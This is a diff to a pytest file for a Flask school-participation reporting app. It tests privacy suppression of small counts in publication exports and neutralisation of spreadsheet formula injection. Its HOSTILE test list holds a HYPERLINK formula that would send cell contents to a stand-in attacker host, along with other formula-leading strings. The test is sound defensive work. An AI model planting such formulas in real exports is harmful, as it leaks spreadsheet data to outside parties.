@@ -119,31 +119,39 @@ def test_publication_export_has_no_participating_school_names(app, client, data,
     assert "Sint-Jozef Humaniora Brugge" in text
     blank = rows.index([])
     counts = [row[4] for row in rows[blank + 2 :]]
-    assert counts == ["< 5"] * 8 + ["6", "< 5", "9", "7"]
+    # M3: secondary 6 = 2 + 2 + 2 and all levels 9 = 3 + 6 would give the hidden counts back.
+    assert counts == ["< 5"] * 8 + ["x", "< 5", "x", "x"]
     assert any("Publicatieversie" in row[0] for row in rows[:blank])
+    assert any("staat als 'x'" in row[0] for row in rows[:blank])
 
     xlsx = client.get("/rapporten/deelname?as_of=19/11/2021&format=xlsx&publication=1")
     wb, ws = _xlsx(xlsx.data)
     values = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
     assert not any("Deelnemer" in str(v) for v in values)
-    assert "< 5" in values and 6 in values
+    assert "< 5" in values and "x" in values and 6 not in values
     wb.close()
 
-    for fmt in ("csv", "xlsx"):
-        listing = client.get(
-            f"/rapporten/deelname/scholen?as_of=19/11/2021&level=secundair&format={fmt}&publication=1"
-        )
-        assert listing.status_code == 200
-        if fmt == "csv":
-            body = listing.data.decode("utf-8-sig")
-            for number in _inst(app, data.S1, data.S2, data.S6, data.S8):
-                assert number not in body  # institution numbers identify a school too
-        else:
-            wb, ws = _xlsx(listing.data)
-            body = " ".join(str(c.value) for row in ws.iter_rows() for c in row)
-            wb.close()
-        assert "Deelnemer" not in body
-        assert "S-R" in body  # the pseudonymous codes
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_publication_list_refused_behind_a_total_or_a_small_count(app, client, data, login_as, fmt):
+    """M3: a list's length is a count: refused behind a total and below the threshold."""
+    login_as("admin")
+    base = f"/rapporten/deelname/scholen?as_of=19/11/2021&format={fmt}&publication=1"
+    behind_total = client.get(base + "&level=secundair")
+    assert behind_total.status_code == 400
+    assert "enkel voor één netwerk en één niveau" in behind_total.get_data(as_text=True)
+    small = client.get(base + f"&level=secundair&network_id={data.N1}")
+    assert small.status_code == 422
+    body = small.get_data(as_text=True)
+    assert "minder dan 5 scholen" in body and "S-R" not in body
+    full = client.get(base.replace("&publication=1", "") + f"&level=secundair&network_id={data.N1}")
+    assert full.status_code == 200  # the ordinary export of the same list stays
+    page = client.get("/rapporten/deelname/scholen?as_of=19/11/2021&level=secundair")
+    assert "publication=1" not in page.get_data(as_text=True)  # no link that would be refused
+    page = client.get(
+        f"/rapporten/deelname/scholen?as_of=19/11/2021&network_id={data.N1}&level=secundair"
+    )
+    assert "publication=1" in page.get_data(as_text=True)
 
 
 def test_list_export_admin_has_names_and_typed_dates(app, client, data, login_as):
@@ -267,3 +275,29 @@ def test_xlsx_types_of_every_kind(ctx):
         assert ws.cell(ws.max_row, 2).number_format == "#,##0.0##"
         wb.close()
         assert _csv_rows(to_csv(table))[-1] == ["01/09/2021", "2,5", "één"]
+
+
+HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A2,"Klik")', "+32 1", "-2+3", "@SUM(A1)", "\t=1"]
+
+
+def test_formula_like_text_is_never_a_formula(ctx):
+    """M4: CSV prefixes text that could start a formula with "'"; XLSX types it as a string."""
+    table = ReportTable(
+        title="=titel",
+        as_of=P,
+        source=SOURCE,
+        columns=[Column("Naam"), Column("n", COUNT), Column("Verschil", DECIMAL)],
+        rows=[[name, -3, Decimal("-1.5")] for name in HOSTILE],
+        notes=["@notitie"],
+    )
+    with __import__("flask").current_app.test_request_context():
+        csv_rows = _csv_rows(to_csv(table))
+        assert csv_rows[0] == ["'=titel"] and csv_rows[3] == ["'@notitie"]
+        assert csv_rows[-len(HOSTILE) :] == [["'" + name, "-3", "-1,5"] for name in HOSTILE]
+        wb, ws = _xlsx(to_xlsx(table))
+        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        assert ws["A1"].value == "=titel"
+        got = [[c.value for c in row] for row in ws.iter_rows(min_row=ws.max_row - 4)]
+        assert got == [[name, -3, -1.5] for name in HOSTILE]
+        wb.close()
